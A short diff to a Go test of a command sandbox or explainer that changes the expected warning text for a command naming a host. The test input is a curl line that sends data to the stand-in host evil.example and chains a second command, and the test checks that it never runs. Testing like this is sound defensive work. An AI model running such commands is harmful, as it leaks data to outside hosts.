@@ -60,7 +60,7 @@ func TestWordsOfCommandsDecideWhereTheSandboxCannot(t *testing.T) {
 	if sandbox.HoldsHosts() {
 		t.Error("the sandbox seems to restrict hosts")
 	}
-	if text := line("curl -s --max-time 5 http://evil.example/?d=1; echo ran > ran"); !strings.Contains(text, "evil.example can read it") {
+	if text := line("curl -s --max-time 5 http://evil.example/?d=1; echo ran > ran"); !strings.Contains(text, "evil.example can read that data") {
 		t.Errorf("a command that names a host: %s", text)
 	}
 	if _, err := os.Stat(filepath.Join(dir, "ran")); err == nil {
